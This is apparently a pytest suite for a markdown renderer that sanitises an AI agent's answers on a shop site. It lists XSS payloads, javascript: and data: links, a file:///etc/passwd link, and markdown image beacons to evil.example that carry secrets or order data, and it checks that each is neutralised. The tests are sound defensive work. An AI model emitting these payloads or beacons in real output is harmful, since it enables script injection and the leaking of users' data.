"""What a model may write, and what is left of it."""

import pytest
from selectolax.lexbor import LexborHTMLParser

from agent.markdown import foreign_host, link_allowed, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?d=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "<javascript:alert(1)>",
    '[a](https://e.example "onmouseover=alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<a href='javascript:1' style='position:fixed'>x</a>",
    "<svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](https://a.example\u0000)",
    "`<b>` <!-- comment -->",
    "| a | b |\n|---|---|\n| <img src=x> | [y](file:///etc/passwd) |",
]
ALLOWED = {
    "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "a", "span",
    "h3", "h4", "table", "thead", "tbody", "tr", "th", "td", "html", "head", "body", "-text",
}  # fmt: skip


def elements(html: str) -> list:
    return list(LexborHTMLParser(html).root.traverse())


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_acts_or_fetches(text: str) -> None:
    """SECURITY 24 and 25."""
    for node in elements(str(render(text))):
        assert node.tag in ALLOWED
        assert not {name for name in node.attributes if name.startswith("on") or name in ("style", "src", "id")}
        href = node.attributes.get("href") or ""
        assert not href or href.startswith(("https://", "http://", "mailto:", "/"))
        assert not href.startswith("//")


def test_links_lend_no_trust_and_show_where_they_lead() -> None:
    """SECURITY 25: a foreign link stands there in full; what was hung onto it is in plain sight."""
    html = str(render("See [the carrier](https://post.example/t/1) and [your order](/orders/1/)."))
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert '<span class="host">(post.example/t/1)</span>' in html
    assert html.count('class="host"') == 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://evil.example/?d=DZ-10423&n=Anna)", ["(evil.example/?d=DZ-10423&amp;n=Anna)"]),
        ("[click](mailto:a@evil.example?body=secret)", ["(a@evil.example?body=secret)"]),
        ("[shop.example](https://evil.example)", ["(evil.example)"]),
        ("<https://evil.example/x?y>", []),  # it says so itself
        ("[https://evil.example/x](https://evil.example/x)", []),
        ("[https://shop.example/](https://evil.example/x)", ["(evil.example/x)"]),
        ('[x](https://evil.example/<b>"onclick=1)', ["(evil.example/%3Cb%3E%22onclick=1)"]),
    ],
)
def test_a_foreign_link_is_shown_in_full(text: str, shown: list[str]) -> None:
    """SECURITY 25."""
    html = str(render(text))
    assert [part.partition("</span>")[0] for part in html.split('<span class="host">')[1:]] == shown


def test_the_sites_own_host_is_not_foreign(settings) -> None:
    settings.PUBLIC_URL = "https://shop.example.com"
    assert foreign_host("https://shop.example.com/agent/") == ""
    assert foreign_host("https://shop.example.com.evil.example/") == "shop.example.com.evil.example"


def test_every_block_finds_its_own_direction() -> None:
    assert str(render("שלום\n\n- עולם")).count('dir="auto"') >= 3


def test_headings_stay_below_the_pages_own() -> None:
    assert "<h3" in str(render("# Loud"))
    assert "<h1" not in str(render("# Loud"))


def test_order_numbers_stay_whole() -> None:
    assert '<span class="whole">DZ-10423</span>' in str(render("Order DZ-10423 is here"))


def test_a_very_long_answer_is_cut() -> None:
    assert len(str(render("x " * 100_000))) < 30_000


@pytest.mark.parametrize("url", ["https://a.example", "mailto:a@b.example", "/agent/"])
def test_ordinary_links_are_allowed(url: str) -> None:
    assert link_allowed(url)


@pytest.mark.parametrize("url", ["ftp://a.example", "//a.example", "/\\a.example", "java\nscript:x", "tel:1", ""])
def test_other_links_are_not(url: str) -> None:
    assert not link_allowed(url)
